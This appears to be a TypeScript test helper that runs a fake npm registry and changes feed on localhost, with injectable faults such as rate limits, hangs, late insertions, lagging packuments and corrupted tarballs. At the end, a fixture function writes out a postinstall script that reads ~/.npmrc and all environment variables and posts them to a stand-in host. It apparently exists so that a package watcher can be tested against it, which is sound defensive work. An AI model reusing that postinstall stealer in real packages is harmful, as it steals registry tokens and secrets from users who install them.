// A throwaway npm changes feed AND registry on 127.0.0.1, in one server, for the watch tests and the
// feed benchmark. It serves what the post-2025 npm replication API serves (see
// /work/shared/feed/FEED.md): `GET /registry/_changes?since=&limit=` in the CouchDB "normal" shape
// with opaque sequence strings, the small info doc `GET /registry/` with `update_seq`, full
// packuments `GET /<name>` with `_rev` and `time`, and tarballs. Versions are published while it
// runs, and the faults a real follower meets can be switched on: 429 with Retry-After, 500, hung
// requests, late insertion (a change appearing behind positions already read) and packuments that
// lag behind the rev the feed announced.
import { createHash } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import semver from 'semver';
import { packTarball } from './registry.js';

export interface PublishInput {
  name: string;
  version: string;
  /** Files relative to the package root; package.json is generated from name/version if missing. */
  files?: Record<string, string | Buffer>;
  /** Publish time in the packument's `time` (ISO); default: the wall clock at publish. */
  time?: string;
  /** Fields merged over the registry manifest (e.g. scripts), so it can differ from the tarball's. */
  registryManifest?: Record<string, unknown>;
  /** Omit dist.integrity from the packument (old packages have only a shasum). */
  noIntegrity?: boolean;
}

export interface ChangeRow {
  seq: string;
  id: string;
  changes: { rev: string }[];
  deleted?: true;
}

/** Which requests a fault applies to. */
export type Route = 'changes' | 'info' | 'packument' | 'tarball';

export type Fault =
  /** Answer 429; Retry-After in seconds (number) or as given (an HTTP date string). */
  | { status: 429; retryAfter?: number | string }
  /** Any other error status (500, 502, 503, 404...). */
  | { status: number; retryAfter?: number | string }
  /** Accept the request and never answer (the client's timeout must fire). */
  | { hang: true }
  /** Answer correctly, but only after this many milliseconds. */
  | { delayMs: number };

export interface FaultRule {
  route: Route;
  fault: Fault;
  /** How many matching requests get the fault (default 1; Infinity for "always"). */
  times?: number;
  /** Only requests for this package (packument, tarball) or whose path contains this. */
  match?: string;
}

export interface FeedCounters {
  changes: number;
  info: number;
  packument: number;
  tarball: number;
  /** Requests answered with a fault. */
  faulted: number;
}

export interface RequestLog {
  route: Route;
  path: string;
  status: number;
  headers: http.IncomingHttpHeaders;
}

export interface FeedServerOptions {
  /**
   * `opaque` (default): seqs like "12-g1AAAAB3eJzLYWBg...", strings a client must store verbatim;
   * `number`: plain integers, as the pre-2021 feed had.
   */
  seqStyle?: 'opaque' | 'number';
  /**
   * CouchDB lists each document once, at its latest change: a package updated twice since the
   * reader's cursor shows up once. Default true; false keeps one row per change.
   */
  collapse?: boolean;
  /** Cap on `limit` (the real feed's is reportedly 10000). */
  maxLimit?: number;
}

export interface FakeFeed {
  /** Base URL: the registry (packuments at `<url>/<name>`, tarballs under it). */
  url: string;
  /** `<url>/registry/_changes` */
  changesUrl: string;
  /** Publish a version: the packument gains it, the feed gains a change. Returns the change. */
  publish(input: PublishInput): Promise<ChangeRow>;
  /**
   * Publish, but make the change visible *behind* the last `behind` changes already in the feed
   * (npm's "late insertion"): a reader whose cursor passed that point only sees it by re-reading.
   */
  publishLate(input: PublishInput, behind: number): Promise<ChangeRow>;
  /** Unpublish a whole package: `time.unpublished` set, versions gone, a change announced. */
  unpublish(name: string): ChangeRow;
  /** Delete the package document: the change has `deleted: true` and the packument is 404. */
  deletePackage(name: string): ChangeRow;
  /** A metadata-only change (e.g. deprecate or a dist-tag move): new rev, no new version. */
  touch(name: string): ChangeRow;
  /**
   * The next `reads` packument reads of `name` serve the document as it was `revsBehind` revs ago
   * (older `_rev`, newest versions missing; 404 when that is before its first publish).
   */
  lagPackument(name: string, reads: number, revsBehind?: number): void;
  /** Serve different tarball bytes than dist.integrity promises for name@version. */
  corruptTarball(name: string, version: string): Promise<void>;
  /** Add a fault rule (checked in order; each applies to its next `times` matching requests). */
  fail(rule: FaultRule): void;
  /** Remove every fault rule and lag. */
  clearFaults(): void;
  /** The current head (what `last_seq` would be for a reader at the end). */
  head(): string;
  /** Every change row in feed order (what a reader from 0 with no limit would get). */
  rows(): ChangeRow[];
  /** Every version published, as name@version. */
  published(): string[];
  tarballUrl(name: string, version: string): string;
  counters: FeedCounters;
  requests: RequestLog[];
  close(): Promise<void>;
}

interface DocState {
  rev: string;
  versions: Map<string, { manifest: Record<string, unknown>; time: string }>;
  created: string;
  modified: string;
  unpublished?: { time: string; versions: string[] };
  deleted?: boolean;
}

interface Entry {
  /** Position in the feed; late insertions get fractional positions between existing ones. */
  pos: number;
  id: string;
  rev: string;
  deleted?: true;
}

const basename = (name: string): string => name.slice(name.lastIndexOf('/') + 1);

export async function startFeed(options: FeedServerOptions = {}): Promise<FakeFeed> {
  const seqStyle = options.seqStyle ?? 'opaque';
  const collapse = options.collapse ?? true;
  const maxLimit = options.maxLimit ?? 10_000;
  const counters: FeedCounters = { changes: 0, info: 0, packument: 0, tarball: 0, faulted: 0 };
  const requests: RequestLog[] = [];
  let rules: (FaultRule & { left: number })[] = [];
  /** Every state each document went through, oldest first (lagging packuments serve an older one). */
  const history = new Map<string, DocState[]>();
  const lags = new Map<string, { reads: number; behind: number }>();
  const tarballs = new Map<string, { served: Buffer; real: Buffer }>();
  const published: string[] = [];
  let entries: Entry[] = [];
  let nextPos = 1;
  let url = '';

  // Opaque seqs: a number the server can decode, dressed the way CouchDB 2+ dresses its seqs. The
  // client must never parse them; only this server does.
  const encodeSeq = (pos: number): string => {
    if (seqStyle === 'number') return String(pos);
    const tag = Buffer.from(`tollgate-fake:${pos}`).toString('base64url');
    return `${Math.floor(pos)}-g1AAAA${tag}`;
  };
  const decodeSeq = (seq: string | null): number | undefined => {
    if (seq === null || seq === '' || seq === '0') return 0;
    if (/^\d+(\.\d+)?$/.test(seq)) return Number(seq);
    const m = /^\d+-g1AAAA([A-Za-z0-9_-]+)$/.exec(seq);
    if (!m) return undefined;
    const inner = /^tollgate-fake:(\d+(?:\.\d+)?)$/.exec(Buffer.from(m[1]!, 'base64url').toString());
    return inner ? Number(inner[1]) : undefined;
  };

  const tarballPath = (name: string, version: string): string => `/${name}/-/${basename(name)}-${version}.tgz`;
  const tarballUrl = (name: string, version: string): string => url + tarballPath(name, version);

  const current = (name: string): DocState | undefined => history.get(name)?.at(-1);
  const nextRev = (prev: DocState | undefined, salt: string): string => {
    const n = prev ? Number(prev.rev.split('-')[0]) + 1 : 1;
    return `${n}-${createHash('md5').update(`${salt}:${n}:${Math.random()}`).digest('hex')}`;
  };
  const cloneState = (s: DocState | undefined): DocState =>
    s
      ? { ...s, versions: new Map(s.versions), unpublished: s.unpublished ? { ...s.unpublished } : undefined }
      : { rev: '', versions: new Map(), created: '', modified: '' };
  const commit = (name: string, state: DocState): void => {
    if (!history.has(name)) history.set(name, []);
    history.get(name)!.push(state);
  };

  /** Append a change for `name`; `at` places it (late insertion), default at the end. */
  const announce = (name: string, rev: string, deleted: boolean, at?: number): ChangeRow => {
    if (collapse) entries = entries.filter((e) => e.id !== name);
    const pos = at ?? nextPos++;
    const entry: Entry = { pos, id: name, rev, ...(deleted ? { deleted: true as const } : {}) };
    entries.push(entry);
    entries.sort((a, b) => a.pos - b.pos);
    return toRow(entry);
  };
  const toRow = (e: Entry): ChangeRow => ({ seq: encodeSeq(e.pos), id: e.id, changes: [{ rev: e.rev }], ...(e.deleted ? { deleted: true as const } : {}) });

  const addVersion = async (input: PublishInput): Promise<DocState> => {
    const files = input.files ?? { 'index.js': 'module.exports = 1;\n' };
    const withPj = files['package.json'] !== undefined ? files : { 'package.json': JSON.stringify({ name: input.name, version: input.version }, null, 2), ...files };
    const tarball = await packTarball(withPj);
    const pj = JSON.parse(String(withPj['package.json'])) as Record<string, unknown>;
    const prev = current(input.name);
    if (prev?.versions.has(input.version)) throw new Error(`fake feed: ${input.name}@${input.version} is already published (npm never allows re-publishing a version)`);
    const time = input.time ?? new Date().toISOString();
    const manifest: Record<string, unknown> = {
      ...pj,
      name: input.name,
      version: input.version,
      _id: `${input.name}@${input.version}`,
      ...input.registryManifest,
      dist: {
        tarball: tarballUrl(input.name, input.version),
        ...(input.noIntegrity ? {} : { integrity: `sha512-${createHash('sha512').update(tarball).digest('base64')}` }),
        shasum: createHash('sha1').update(tarball).digest('hex'),
      },
    };
    const state = cloneState(prev?.deleted ? undefined : prev);
    state.rev = nextRev(prev, input.name);
    state.versions.set(input.version, { manifest, time });
    state.created ||= time;
    state.modified = time;
    delete state.unpublished;
    delete state.deleted;
    commit(input.name, state);
    tarballs.set(`${input.name}@${input.version}`, { served: tarball, real: tarball });
    published.push(`${input.name}@${input.version}`);
    return state;
  };

  const packumentOf = (name: string, s: DocState): Record<string, unknown> => {
    const all = [...s.versions.keys()].sort(semver.compare);
    const time: Record<string, unknown> = { created: s.created, modified: s.modified };
    for (const v of all) time[v] = s.versions.get(v)!.time;
    if (s.unpublished) time.unpublished = { time: s.unpublished.time, versions: s.unpublished.versions };
    return {
      _id: name,
      _rev: s.rev,
      name,
      'dist-tags': all.length ? { latest: all[all.length - 1] } : {},
      versions: Object.fromEntries(all.map((v) => [v, s.versions.get(v)!.manifest])),
      time,
    };
  };

  /** The fault to apply to this request, if any (consumes one use of the rule). */
  const faultFor = (route: Route, subject: string): Fault | undefined => {
    for (const r of rules) {
      if (r.route !== route || r.left <= 0) continue;
      if (r.match !== undefined && !subject.includes(r.match)) continue;
      r.left--;
      return r.fault;
    }
    return undefined;
  };

  const server = http.createServer((req, res) => {
    const raw = req.url ?? '/';
    const u = new URL(raw, 'http://x');
    const pathname = decodeURIComponent(u.pathname);
    let route: Route;
    let subject = pathname;
    const log = (status: number): void => void requests.push({ route, path: raw, status, headers: req.headers });
    const send = (status: number, body: string | Buffer, type = 'application/json', headers: Record<string, string> = {}): void => {
      log(status);
      res.writeHead(status, { 'content-type': type, 'content-length': Buffer.byteLength(body), ...headers });
      res.end(body);
    };
    const notFound = (): void => send(404, JSON.stringify({ error: 'not_found', reason: 'missing' }));

    const tgz = /^\/(.+)\/-\/[^/]+-([^/]+)\.tgz$/.exec(pathname);
    if (pathname === '/registry/_changes') route = 'changes';
    else if (pathname === '/registry/' || pathname === '/registry') route = 'info';
    else if (tgz) {
      route = 'tarball';
      subject = `${tgz[1]}@${tgz[2]}`;
    } else {
      route = 'packument';
      subject = pathname.slice(1);
    }
    counters[route]++;

    const answer = (): void => {
      if (route === 'changes') {
        const descending = u.searchParams.get('descending') === 'true';
        const limit = Math.min(maxLimit, Math.max(1, Number(u.searchParams.get('limit') ?? 1000) || 1000));
        if (descending) {
          const rows = [...entries].reverse().slice(0, limit).map(toRow);
          return send(200, JSON.stringify({ results: rows, last_seq: rows.at(-1)?.seq ?? encodeSeq(0) }));
        }
        const since = decodeSeq(u.searchParams.get('since'));
        if (since === undefined) return send(400, JSON.stringify({ error: 'bad_request', reason: `malformed sequence supplied in 'since' parameter` }));
        const rows = entries.filter((e) => e.pos > since).slice(0, limit).map(toRow);
        // CouchDB's last_seq is the seq of the last row sent, or the reader's own since when none.
        const last = rows.length ? rows[rows.length - 1]!.seq : (u.searchParams.get('since') ?? encodeSeq(0));
        return send(200, JSON.stringify({ results: rows, last_seq: seqStyle === 'number' && /^\d+$/.test(last) ? Number(last) : last }));
      }
      if (route === 'info') {
        const head = entries.at(-1);
        return send(200, JSON.stringify({ db_name: 'registry', update_seq: head ? encodeSeq(head.pos) : encodeSeq(0) }));
      }
      if (route === 'tarball') {
        const t = tarballs.get(subject);
        return t ? send(200, t.served, 'application/octet-stream') : notFound();
      }
      if (route === 'packument') {
        const states = history.get(subject);
        if (!states) return notFound();
        let s = states[states.length - 1]!;
        const lag = lags.get(subject);
        if (lag && lag.reads > 0) {
          lag.reads--;
          const older = states[states.length - 1 - lag.behind];
          // Lagging behind the first publish: the registry does not have the document yet.
          if (!older) return notFound();
          s = older;
        }
        if (s.deleted) return notFound();
        return send(200, JSON.stringify(packumentOf(subject, s)));
      }
      return notFound();
    };

    const fault = faultFor(route, subject);
    if (!fault) return answer();
    counters.faulted++;
    if ('hang' in fault) {
      log(0);
      return; // never answered; the client's timeout has to end it
    }
    if ('delayMs' in fault) {
      setTimeout(answer, fault.delayMs).unref();
      return;
    }
    const headers: Record<string, string> = {};
    if (fault.retryAfter !== undefined) headers['retry-after'] = String(fault.retryAfter);
    return send(fault.status, JSON.stringify({ error: `injected ${fault.status}` }), 'application/json', headers);
  });

  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => resolve());
  });
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

  const feed: FakeFeed = {
    url,
    changesUrl: `${url}/registry/_changes`,
    async publish(input) {
      const s = await addVersion(input);
      return announce(input.name, s.rev, false);
    },
    async publishLate(input, behind) {
      const s = await addVersion(input);
      if (collapse) entries = entries.filter((e) => e.id !== input.name);
      // Between the (behind+1)-th and the behind-th last rows: a reader that already passed them
      // will not see it unless it re-reads.
      const after = entries[entries.length - 1 - behind];
      const before = entries[entries.length - behind];
      const lo = after?.pos ?? 0;
      const hi = before?.pos ?? nextPos;
      return announce(input.name, s.rev, false, lo + (hi - lo) / 2);
    },
    unpublish(name) {
      const prev = current(name);
      if (!prev) throw new Error(`fake feed: no package ${name}`);
      const state = cloneState(prev);
      state.rev = nextRev(prev, name);
      const at = new Date().toISOString();
      state.unpublished = { time: at, versions: [...prev.versions.keys()] };
      state.versions = new Map();
      state.modified = at;
      commit(name, state);
      return announce(name, state.rev, false);
    },
    deletePackage(name) {
      const prev = current(name);
      if (!prev) throw new Error(`fake feed: no package ${name}`);
      const state = cloneState(prev);
      state.rev = nextRev(prev, name);
      state.deleted = true;
      commit(name, state);
      return announce(name, state.rev, true);
    },
    touch(name) {
      const prev = current(name);
      if (!prev) throw new Error(`fake feed: no package ${name}`);
      const state = cloneState(prev);
      state.rev = nextRev(prev, name);
      state.modified = new Date().toISOString();
      commit(name, state);
      return announce(name, state.rev, false);
    },
    lagPackument(name, reads, revsBehind = 1) {
      lags.set(name, { reads, behind: revsBehind });
    },
    async corruptTarball(name, version) {
      const t = tarballs.get(`${name}@${version}`);
      if (!t) throw new Error(`fake feed: no tarball for ${name}@${version}`);
      // Valid gzip, different bytes: only the integrity check can tell.
      t.served = await packTarball({ 'package.json': JSON.stringify({ name, version }), 'tampered.js': 'module.exports = "x";' });
    },
    fail(rule) {
      rules.push({ ...rule, left: rule.times ?? 1 });
    },
    clearFaults() {
      rules = [];
      lags.clear();
    },
    head: () => encodeSeq(entries.at(-1)?.pos ?? 0),
    rows: () => entries.map(toRow),
    published: () => [...published],
    tarballUrl,
    counters,
    requests,
    close: () =>
      new Promise<void>((resolve, reject) => {
        server.closeAllConnections();
        server.close((err) => (err ? reject(err) : resolve()));
      }),
  };
  return feed;
}

/**
 * An inert malicious fixture: a postinstall that reads ~/.npmrc and the whole environment and posts
 * them to a remote host. Source text only; nothing here is ever run.
 */
export function credentialStealerFiles(name: string, version: string): Record<string, string> {
  return {
    'package.json': JSON.stringify({ name, version, main: 'index.js', scripts: { postinstall: 'node setup.js' } }, null, 2),
    'index.js': 'module.exports = function add(a, b) { return a + b; };\n',
    'setup.js': [
      "const fs = require('fs');",
      "const os = require('os');",
      "const path = require('path');",
      "const https = require('https');",
      "let npmrc = '';",
      "try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}",
      'const payload = JSON.stringify({ host: os.hostname(), npmrc, env: process.env });',
      "const req = https.request({ hostname: 'collector.example-exfil.net', path: '/c', method: 'POST', headers: { 'content-type': 'application/json' } });",
      "req.on('error', () => {});",
      'req.write(payload);',
      'req.end();',
      '',
    ].join('\n'),
  };
}

/** A plain, harmless package body. */
export function benignFiles(name: string, version: string): Record<string, string> {
  return {
    'package.json': JSON.stringify({ name, version, main: 'index.js', license: 'MIT' }, null, 2),
    'index.js': `'use strict';\nmodule.exports = function pad(s, n) { return String(s).padStart(n); };\n`,
  };
}
